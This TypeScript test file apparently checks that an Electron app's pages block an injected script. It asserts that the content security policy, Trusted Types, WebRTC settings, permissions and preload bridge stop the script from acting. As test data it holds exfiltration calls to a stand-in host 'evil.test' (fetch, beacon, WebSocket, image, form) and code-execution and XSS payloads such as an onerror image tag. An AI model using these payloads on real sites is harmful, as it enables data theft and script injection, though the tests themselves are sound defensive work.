// A script that got into a page, by whatever way: what it may not run, load, send, see or become.
import { once } from 'node:events';
import { createServer, type AddressInfo } from 'node:net';
import { expect, test } from './attacked.ts';

/** Runs `attack` in the page, and tells which directives of its policy were violated, and what was thrown. */
const FIND = `async (attack) => {
  const violated = new Set();
  const listen = (event) => violated.add(event.effectiveDirective);
  document.addEventListener('securitypolicyviolation', listen);
  // Not within the evaluation itself, where DevTools lets eval pass.
  await new Promise((resolve) => setTimeout(resolve));
  const thrown = await Promise.resolve().then(attack).then(() => '', (error) => error.name);
  await new Promise((resolve) => setTimeout(resolve, 150));
  document.removeEventListener('securitypolicyviolation', listen);
  return { violated: [...violated], thrown, ran: globalThis.attackRan === true };
}`;
interface Found {
  violated: string[];
  thrown: string;
  ran: boolean;
}

const TARGET = 'https://evil.test/?stolen';
const add = (tag: string, properties: string) =>
  `() => { const e = Object.assign(document.createElement('${tag}'), ${properties}); document.body.append(e); setTimeout(() => e.remove(), 140); }`;

const SENDS: [string, string, string][] = [
  ['fetch', `() => fetch('${TARGET}')`, 'connect-src'],
  ['fetch of its own origin', `() => fetch('index.html')`, 'connect-src'],
  [
    'XMLHttpRequest',
    `() => { const x = new XMLHttpRequest(); x.open('GET', '${TARGET}'); x.send(); }`,
    'connect-src',
  ],
  ['a WebSocket', `() => new WebSocket('wss://evil.test/')`, 'connect-src'],
  ['an EventSource', `() => new EventSource('${TARGET}')`, 'connect-src'],
  ['a beacon', `() => navigator.sendBeacon('${TARGET}', 'stolen')`, 'connect-src'],
  ['WebTransport', `() => new WebTransport('${TARGET}')`, 'connect-src'],
  ['an image', add('img', `{ src: '${TARGET}' }`), 'img-src'],
  [
    'an image of its own text',
    add('img', `{ src: 'data:image/gif;base64,R0lGODlhAQABAAAAACw=' }`),
    'img-src',
  ],
  ['a background image', `() => { document.body.style.backgroundImage = 'url(${TARGET})'; }`, 'img-src'],
  ['a film', add('video', `{ src: '${TARGET}', preload: 'auto' }`), 'media-src'],
  ['a font', `() => new FontFace('x', 'url(${TARGET})').load()`, 'font-src'],
  ['a style sheet', add('link', `{ rel: 'stylesheet', href: '${TARGET}' }`), 'style-src-elem'],
  ['a prefetch', add('link', `{ rel: 'prefetch', href: '${TARGET}' }`), 'default-src'],
  ['a preload', add('link', `{ rel: 'preload', as: 'image', href: '${TARGET}' }`), 'img-src'],
  ['a frame', add('iframe', `{ src: '${TARGET}' }`), 'frame-src'],
  ['a frame of its own origin', add('iframe', `{ src: '/desk/index.html' }`), 'frame-src'],
  ['an object', add('object', `{ data: '${TARGET}' }`), 'require-trusted-types-for'],
  [
    'a form',
    `() => { const f = Object.assign(document.createElement('form'), { action: '${TARGET}', method: 'POST' }); document.body.append(f); f.submit(); f.remove(); }`,
    'form-action',
  ],
  [
    'another base for its links',
    `() => { const b = Object.assign(document.createElement('base'), { href: 'https://evil.test/' }); document.head.append(b); b.remove(); }`,
    'base-uri',
  ],
];
for (const [what, attack, directive] of SENDS)
  test(`nothing leaves by ${what}`, async ({ attacked: { window } }) => {
    const { violated } = (await window.evaluate(`(${FIND})(${attack})`)) as Found;
    expect(violated).toContain(directive);
  });

const MARK = 'globalThis.attackRan = true';
const RUNS: [string, string][] = [
  ['eval', `() => setTimeout.constructor && (0, eval)('${MARK}')`],
  ['the Function constructor', `() => new Function('${MARK}')()`],
  ['a timer with a text', `() => setTimeout('${MARK}')`],
  [
    'an inline script',
    `() => { const s = document.createElement('script'); s.append('${MARK}'); document.head.append(s); s.remove(); }`,
  ],
  ['a script of another site', add('script', `{ src: '${TARGET}' }`)],
  ['a script in its address', add('script', `{ src: 'data:text/javascript,${MARK}' }`)],
  [
    'a script made of bytes',
    `() => { const s = document.createElement('script'); s.src = URL.createObjectURL(new Blob(['${MARK}'], { type: 'text/javascript' })); document.head.append(s); s.remove(); }`,
  ],
  ['an import', `() => import('data:text/javascript,${MARK}')`],
  [
    'a javascript: link',
    `() => { const a = document.createElement('a'); a.href = 'javascript:${MARK}'; document.body.append(a); a.click(); a.remove(); }`,
  ],
  [
    'a handler in an attribute',
    `() => { const b = document.createElement('b'); b.setAttribute('onclick', '${MARK}'); b.click(); }`,
  ],
  ['a worker', `() => new Worker('data:text/javascript,${MARK}')`],
  ['a shared worker', `() => new SharedWorker('data:text/javascript,${MARK}')`],
  ['a service worker', `() => navigator.serviceWorker.register('/assets/x.js')`],
  ['a worklet', `() => new AudioContext().audioWorklet.addModule('data:text/javascript,${MARK}')`],
  ['WebAssembly', `() => WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))`],
];
for (const [what, attack] of RUNS)
  test(`no code runs by ${what}`, async ({ attacked: { window } }) => {
    const { violated, thrown, ran } = (await window.evaluate(`(${FIND})(${attack})`)) as Found;
    expect(ran).toBe(false);
    expect(violated.length > 0 || thrown !== '').toBe(true);
  });

const MARKUP = `'<img src=x onerror="${MARK}"><b id="made">x</b>'`;
const WRITES: [string, string][] = [
  ['innerHTML', `(e) => { e.innerHTML = ${MARKUP}; }`],
  ['outerHTML', `(e) => { e.firstChild.outerHTML = ${MARKUP}; }`],
  ['insertAdjacentHTML', `(e) => e.insertAdjacentHTML('beforeend', ${MARKUP})`],
  ['document.write', `() => document.write(${MARKUP})`],
  ['DOMParser', `(e) => e.append(new DOMParser().parseFromString(${MARKUP}, 'text/html').body.firstChild)`],
  ['a range', `(e) => e.append(document.createRange().createContextualFragment(${MARKUP}))`],
  ['setHTMLUnsafe', `(e) => e.setHTMLUnsafe(${MARKUP})`],
  ['srcdoc', `(e) => { const f = document.createElement('iframe'); f.srcdoc = ${MARKUP}; e.append(f); }`],
  [
    'a policy of its own',
    `(e) => { e.innerHTML = trustedTypes.createPolicy('mine', { createHTML: (x) => x }).createHTML(${MARKUP}); }`,
  ],
  [
    'a second policy of Vue’s name',
    `(e) => { e.innerHTML = trustedTypes.createPolicy('vue', { createHTML: (x) => x }).createHTML(${MARKUP}); }`,
  ],
  [
    'a default policy',
    `(e) => { trustedTypes.createPolicy('default', { createHTML: (x) => x }); e.innerHTML = ${MARKUP}; }`,
  ],
];
for (const [what, attack] of WRITES)
  test(`no text becomes markup by ${what}`, async ({ attacked: { window } }) => {
    const { thrown, ran } = (await window.evaluate(
      `(${FIND})(() => { const e = document.createElement('div'); e.append(document.createElement('i')); return (${attack})(e); })`,
    )) as Found;
    expect([thrown, ran]).toEqual(['TypeError', false]);
    expect(await window.locator('#made').count()).toBe(0);
  });

test('a style from markup has no effect: neither an element nor an attribute', async ({
  attacked: { window },
}) => {
  const { violated } = (await window.evaluate(
    `(${FIND})(() => { const s = document.createElement('style'); s.append('body{display:none}'); document.head.append(s); const b = document.createElement('b'); b.setAttribute('style', 'color:red'); document.body.append(b); s.remove(); b.remove(); })`,
  )) as Found;
  expect(violated.toSorted()).toEqual(['style-src-attr', 'style-src-elem']);
});

test('WebRTC, which no policy holds, has no network to use', async ({ attacked: { desk, window } }) => {
  const policies = await desk.app.evaluate(({ webContents }) =>
    webContents.getAllWebContents().map((contents) => contents.getWebRTCIPHandlingPolicy()),
  );
  expect(new Set(policies)).toEqual(new Set(['disable_non_proxied_udp']));
  const candidates = await window.evaluate(async () => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:3478' }] });
    const found: unknown[] = [];
    peer.onicecandidate = ({ candidate }) => candidate && found.push(candidate.candidate);
    peer.createDataChannel('out');
    await peer.setLocalDescription(await peer.createOffer());
    await new Promise((resolve) => setTimeout(resolve, 500));
    peer.close();
    return found;
  });
  expect(candidates).toEqual([]);
});

test('nothing knocks at a listener on this computer: hints, pings, rules that look ahead', async ({
  attacked: { window },
}) => {
  let knocks = 0;
  const listener = createServer((socket) => {
    knocks += 1;
    socket.destroy();
  }).listen(0, '127.0.0.1');
  await once(listener, 'listening');
  const { port } = listener.address() as AddressInfo;
  await window.evaluate(async (target) => {
    const before = location.href;
    const made = (tag: string, properties: object) =>
      document.body.appendChild(Object.assign(document.createElement(tag), properties));
    const hints = [
      'dns-prefetch',
      'preconnect',
      'modulepreload',
      'prerender',
      'prefetch',
      'manifest',
      'icon',
    ];
    const parts = hints.map((rel) => made('link', { rel, href: target }));
    const rules = { prefetch: [{ urls: [target] }], prerender: [{ urls: [target] }] };
    try {
      parts.push(made('script', { type: 'speculationrules', textContent: JSON.stringify(rules) }));
    } catch {
      // No text becomes a script's.
    }
    for (const properties of [{ ping: target }, { ping: target, attributionSrc: target, download: 'x' }]) {
      const link = made('a', { href: '#away', ...properties });
      parts.push(link);
      link.click();
    }
    const later = globalThis as unknown as { fetchLater?: (url: string, options: object) => void };
    try {
      later.fetchLater?.(target, { activateAfter: 0 });
    } catch {
      // Refused at once.
    }
    await new Promise((resolve) => setTimeout(resolve, 500));
    for (const part of parts) part.remove();
    history.replaceState(history.state, '', before);
  }, `http://127.0.0.1:${port}/stolen`);
  listener.close();
  expect(knocks).toBe(0);
});

test('a page has no Node, no Electron, and of main one frozen object', async ({
  attacked: { desk, window },
}) => {
  for (const page of [desk.desk, window]) {
    const seen = await page.evaluate(() => {
      const pristine = document.body.appendChild(document.createElement('iframe'));
      const usual = new Set(Object.getOwnPropertyNames(pristine.contentWindow));
      const bridge = globalThis.window.circdesk as unknown as Record<string, unknown>;
      const inFrame = 'circdesk' in (pristine.contentWindow ?? {});
      pristine.remove();
      return {
        extra: Object.getOwnPropertyNames(globalThis).filter(
          (n) => !usual.has(n) && !/^(\d+|__(playwright|pw|zod|VUE|INTLIFY).*)$/.test(n),
        ),
        node: [
          'process',
          'require',
          'module',
          'Buffer',
          'global',
          '__dirname',
          'electron',
          'ipcRenderer',
        ].filter((n) => n in globalThis),
        frozen: [bridge, ...Object.values(bridge)].every((part) => Object.isFrozen(part)),
        inFrame,
      };
    });
    expect(seen).toEqual({ extra: ['circdesk'], node: [], frozen: true, inFrame: false });
  }
});

test('a window has the functions of its own kind only', async ({ attacked: { desk, window } }) => {
  const groups = (page: typeof window) =>
    page.evaluate(() =>
      Object.entries(globalThis.window.circdesk).flatMap(([group, members]) =>
        typeof members === 'function' ? [group] : Object.keys(members).map((name) => `${group}.${name}`),
      ),
    );
  const [ofDesk, ofPatron] = [await groups(desk.desk), await groups(window)];
  expect(ofPatron.filter((name) => /^(patrons|sync)\.|signOut|beginAnew/.test(name))).toEqual([]);
  expect(ofDesk.filter((name) => name.startsWith('patron.'))).toEqual([]);
});

test('replaced built-ins of the page show it neither channels nor tokens', async ({
  attacked: { window },
}) => {
  const seen = await window.evaluate(async () => {
    const caught: string[] = [];
    const note = (value: unknown) =>
      caught.push(typeof value === 'string' ? value : JSON.stringify(value ?? null));
    const { then } = Promise.prototype;
    const { parse, stringify } = JSON;
    JSON.parse = (text: string) => (note(text), parse(text) as unknown);
    JSON.stringify = ((value: unknown) => (note(value), stringify(value))) as never;
    Promise.prototype.then = function (this: Promise<unknown>, ...args: never[]) {
      return Reflect.apply(then, this, args) as never;
    };
    Object.defineProperty(Object.prototype, 'channel', { configurable: true, set: note });
    await globalThis.window.circdesk.session.state({});
    Object.assign(JSON, { parse, stringify });
    Promise.prototype.then = then;
    delete (Object.prototype as Record<string, unknown>)['channel'];
    return caught.join('\n');
  });
  expect(seen).not.toMatch(/circdesk:request|circdesk:event|[arg]\.[\w-]{43}/);
});

test('what Chromium could give a page is off, each of it', async ({ attacked: { window } }) => {
  const left = await window.evaluate(() =>
    (
      document as unknown as { featurePolicy: { allowedFeatures(): string[] } }
    ).featurePolicy.allowedFeatures(),
  );
  // Hints that a page may give of itself, and words for screen readers.
  expect(left.filter((feature) => !/^ch-|^aria-notify$/.test(feature))).toEqual([]);
});

test('a page gets no permission, whatever it asks for', async ({ attacked: { window } }) => {
  const states = await window.evaluate(async () => {
    const names = [
      'geolocation',
      'notifications',
      'camera',
      'microphone',
      'midi',
      'clipboard-read',
      'clipboard-write',
    ];
    const asked = names.map(async (name) => {
      const status = await navigator.permissions.query({ name: name as PermissionName }).catch(() => null);
      return [name, status?.state ?? 'unknown'];
    });
    return Object.fromEntries([
      ...(await Promise.all(asked)),
      ['Notification', await Notification.requestPermission()],
      ['read', await navigator.clipboard.readText().catch((error: Error) => error.name)],
      ['screen', await navigator.mediaDevices.getDisplayMedia().catch((error: Error) => error.name)],
      ['full screen', await document.documentElement.requestFullscreen().catch((error: Error) => error.name)],
    ]) as Record<string, string>;
  });
  expect(Object.entries(states).filter(([, state]) => state === 'granted' || state === 'prompt')).toEqual([]);
});
